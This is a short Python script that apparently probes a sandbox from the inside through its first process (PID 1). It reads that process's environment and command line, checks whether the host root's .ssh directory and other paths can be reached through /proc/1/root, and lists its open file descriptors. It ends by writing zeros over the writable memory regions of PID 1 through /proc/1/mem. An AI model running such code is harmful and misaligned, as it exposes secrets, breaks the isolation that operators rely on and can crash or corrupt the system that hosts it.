"""What the first process of the sandbox can be made to tell of the machine, or to do."""
import os, sys
INSIDE = "/proc/1/root"
OWNER = "/root"  # of the service, where it is root
for name in ("environ", "cmdline", "maps", "mountinfo"):
    try:
        text = open(f"/proc/1/{name}").read()
    except OSError as error:
        print(name, error.strerror)
        continue
    if name in ("environ", "cmdline") and (sys.argv[1] in text or "HOME=" in text or "JAVA" in text):
        print("REACHED", name, text[:200])
for path in (f"{INSIDE}{OWNER}/.ssh", f"{INSIDE}/var", f"{INSIDE}/sys", INSIDE + sys.argv[1]):
    if os.path.exists(path):
        print("REACHED", path)
for link in os.listdir("/proc/1/fd") if os.access("/proc/1/fd", os.R_OK) else ():
    target = os.readlink(f"/proc/1/fd/{link}")
    if sys.argv[1] in target:
        print("REACHED", target)
try:
    memory = open("/proc/1/mem", "r+b", buffering=0)
    for line in open("/proc/1/maps"):
        if " rw-p " in line:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            memory.seek(start)
            memory.write(b"\0" * min(end - start, 1 << 20))
    print("wrote over the first process")
except OSError as error:
    print("memory:", error.strerror)
print("looked")
